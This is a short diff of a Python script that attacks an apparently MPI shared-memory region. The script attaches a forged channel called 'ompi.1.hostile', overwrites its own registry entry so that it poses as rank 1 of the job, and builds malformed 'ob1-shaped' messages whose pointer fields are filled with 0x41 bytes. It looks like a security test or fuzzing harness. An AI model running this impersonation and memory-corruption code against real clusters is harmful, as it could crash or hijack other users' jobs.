@@ -69,11 +69,13 @@ jobid = next(iter(targets.values())).job_id
 forged = Channel.attach_path(region, job_id=jobid, rank=4242,
                              name="ompi.1.hostile")
 # Pose as rank 1 of the job: our own registry entry, rewritten in place
-# (registry_off at header offset 48, entries of 128 bytes, rank at +16).
+# (found by its name, at +40 in the entry; job_id at +8, rank at +16).
 with open(region, "r+b") as f:
     mm = mmap.mmap(f.fileno(), 0)
-reg = struct.unpack_from("<Q", mm, 48)[0]
-struct.pack_into("<I", mm, reg + forged.self_slot * 128 + 16, 1)
+entry = mm.find(b"ompi.1.hostile\0") - 40
+if entry < 0 or struct.unpack_from("<Q", mm, entry + 8)[0] != jobid:
+    sys.exit("hostile: cannot find its own registry entry")
+struct.pack_into("<I", mm, entry + 16, 1)
 
 # ob1-shaped garbage: header type = tag, every pointer field 0x4141...
 TAGS = [0x41 + i for i in range(9)] + [0, 1, 0x20, 0x40, 0xff, 0x100]
